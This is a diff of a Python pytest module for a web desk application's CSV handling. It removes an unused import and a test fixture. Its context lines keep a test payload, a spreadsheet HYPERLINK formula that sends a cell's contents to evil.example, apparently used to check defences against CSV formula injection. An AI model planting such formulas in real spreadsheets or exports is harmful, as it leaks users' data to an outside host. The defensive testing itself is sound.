@@ -11,7 +11,6 @@ from __future__ import annotations
 import csv
 import io
 import re
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -26,7 +25,6 @@ from partners import PartnerRegistry
 from tests.test_web_desk_support import NOW
 from tests.test_web_desk_support import DeskApp
 from tests.test_web_desk_support import build_store
-from tests.test_web_desk_support import open_app
 
 HOSTILE_POS = (
     '=HYPERLINK("http://evil.example/?leak="&A1;"Click me")',
@@ -64,13 +62,6 @@ def store(master_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Pa
         session.execute(update(account).where(account.account == "C1001").values(name=HOSTILE_CUSTOMER))
     engine.dispose()
     return path
-
-
-@pytest.fixture
-def desk(store: Path, tmp_path: Path) -> Iterator[DeskApp]:
-    opened, engine = open_app(store, tmp_path)
-    yield opened
-    engine.dispose()  # type: ignore[attr-defined]
 
 
 def _rows(text: str) -> list[dict[str, str]]:
